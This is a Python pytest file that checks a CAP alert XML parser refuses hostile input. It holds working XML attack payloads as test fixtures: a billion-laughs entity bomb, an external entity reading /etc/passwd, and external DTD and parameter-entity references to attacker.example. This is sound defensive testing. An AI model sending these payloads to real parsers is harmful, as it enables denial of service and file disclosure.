"""Untrusted XML: bombs, external entities, DTDs and oversized documents
are refused before any CAP processing (XmlRefused → 400)."""

from __future__ import annotations

import pytest

from lianbo.adapters.cap import MAX_BYTES, parse_cap
from lianbo.domain.alerting.errors import XmlRefused
from lianbo.domain.errors import InvalidInput
from tests.integration.alerts.samples import NS, SAMPLES

BILLION_LAUGHS = f"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<alert xmlns="{NS}"><identifier>&lol9;</identifier></alert>"""

EXTERNAL_ENTITY = f"""<?xml version="1.0"?>
<!DOCTYPE alert [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<alert xmlns="{NS}"><identifier>&xxe;</identifier></alert>"""

EXTERNAL_DTD = f"""<?xml version="1.0"?>
<!DOCTYPE alert SYSTEM "http://attacker.example/cap.dtd">
<alert xmlns="{NS}"><identifier>x</identifier></alert>"""

PARAMETER_ENTITY = f"""<?xml version="1.0"?>
<!DOCTYPE alert [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<alert xmlns="{NS}"/>"""

PLAIN_DTD = SAMPLES["update.xml"].replace(
    '<?xml version="1.0" encoding="UTF-8"?>\n',
    '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE alert>\n',
)


@pytest.mark.parametrize(
    "doc",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY, PLAIN_DTD],
    ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity", "plain-dtd"],
)
def test_dtds_and_entities_are_refused(doc: str) -> None:
    with pytest.raises(XmlRefused, match=r"DTD|entit|external"):
        parse_cap(doc)


def test_oversized_document_is_refused_before_parsing() -> None:
    doc = SAMPLES["update.xml"].encode() + b" " * MAX_BYTES
    with pytest.raises(XmlRefused, match="over the"):
        parse_cap(doc)


def test_size_limit_is_configurable() -> None:
    with pytest.raises(XmlRefused):
        parse_cap(SAMPLES["update.xml"], max_bytes=100)


@pytest.mark.parametrize("doc", ["<alert", "", "not xml", f'<alert xmlns="{NS}"></alrt>'])
def test_malformed_xml_is_refused(doc: str) -> None:
    with pytest.raises(XmlRefused, match="well-formed"):
        parse_cap(doc)


def test_xml_refused_is_a_400() -> None:
    assert issubclass(XmlRefused, InvalidInput)
    assert XmlRefused("x").code == "xml_refused"
